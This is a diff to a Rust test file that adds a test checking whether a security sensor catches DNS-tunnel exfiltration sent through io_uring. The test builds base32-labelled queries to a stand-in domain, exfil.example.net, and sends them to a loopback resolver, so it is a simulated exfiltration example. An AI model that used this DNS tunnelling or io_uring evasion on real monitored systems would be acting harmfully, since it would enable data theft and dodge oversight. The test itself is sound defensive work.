@@ -1241,6 +1241,79 @@ fn uring_results(out: &str) -> Vec<Option<i64>> {
         .collect()
 }
 
+/// DNS queries sent through io_uring (`IORING_OP_SEND` on a connected socket, no syscall that
+/// sends) carry a tunnel as well as `sendto` does: recorded as sends, parsed, caught.
+#[test]
+fn a_dns_tunnel_through_io_uring_sends_is_caught() {
+    if !can_run_kernel_tests("a_dns_tunnel_through_io_uring_sends_is_caught") {
+        return;
+    }
+    if io_uring_disabled() {
+        eprintln!("SKIPPED: io_uring is disabled here");
+        return;
+    }
+    let scene = Scene::new("uringdns");
+    let client = scene.script("io_uring", IO_URING_PY);
+    // Three queries of long base32 labels, as `detection.rs` sends with sendto.
+    let queries: Vec<String> = (0..3)
+        .map(|i| {
+            let mut q = vec![0, i, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
+            let name = format!("mzxw6ytboi4tcnrrgqzdgnbvgy3tqojqgeztmnbv{i}.exfil.example.net");
+            for label in name.split('.') {
+                q.push(label.len() as u8);
+                q.extend_from_slice(label.as_bytes());
+            }
+            q.extend_from_slice(&[0, 0, 16, 0, 1]);
+            let hex: String = q.iter().map(|b| format!("{b:02x}")).collect();
+            format!("hex:{hex}")
+        })
+        .collect();
+    // A listener, or the port's unreachable answer would fail the next send.
+    let _resolver =
+        std::net::UdpSocket::bind("127.0.0.79:53").expect("loopback listener on 127.0.0.79:53");
+    let mut argv = vec![
+        PYTHON,
+        &client,
+        "socket",
+        "2",
+        "2",
+        "0",
+        "connect",
+        "last",
+        "127.0.0.79",
+        "53",
+    ];
+    for query in &queries {
+        argv.extend(["sendc", "@0", query.as_str()]);
+    }
+    let sensor = scene.sensor();
+    let out = run_agent(&sensor, "uringdns", &scene.worktree, &argv);
+    assert_eq!(
+        out.matches(r#""op": "sendc", "res": 77"#).count(),
+        3,
+        "{out}"
+    );
+    let (events, alerts) = finish(sensor);
+    let queried: Vec<_> = events
+        .iter()
+        .filter(|e| e["kind"] == "net.send" && e["flags"] == serde_json::json!(["io_uring"]))
+        .map(|e| e["dns"]["name"].clone())
+        .collect();
+    assert_eq!(queried.len(), 3, "{events:#?}");
+    assert!(
+        queried.iter().all(|n| n
+            .as_str()
+            .is_some_and(|n| n.ends_with(".exfil.example.net"))),
+        "{queried:?}"
+    );
+    assert!(
+        alerts
+            .iter()
+            .any(|a| a["rule"] == "exfil.dns_tunnel" && a["agent"] == "uringdns"),
+        "{alerts:#?}"
+    );
+}
+
 /// io_uring runs opens, renames, unlinks and mkdirs without a syscall of their own, in the
 /// kernel or in the process's io_uring threads: each request is recorded when it is submitted,
 /// as the syscall that does the same and flagged `io_uring`, and judged like that syscall. So
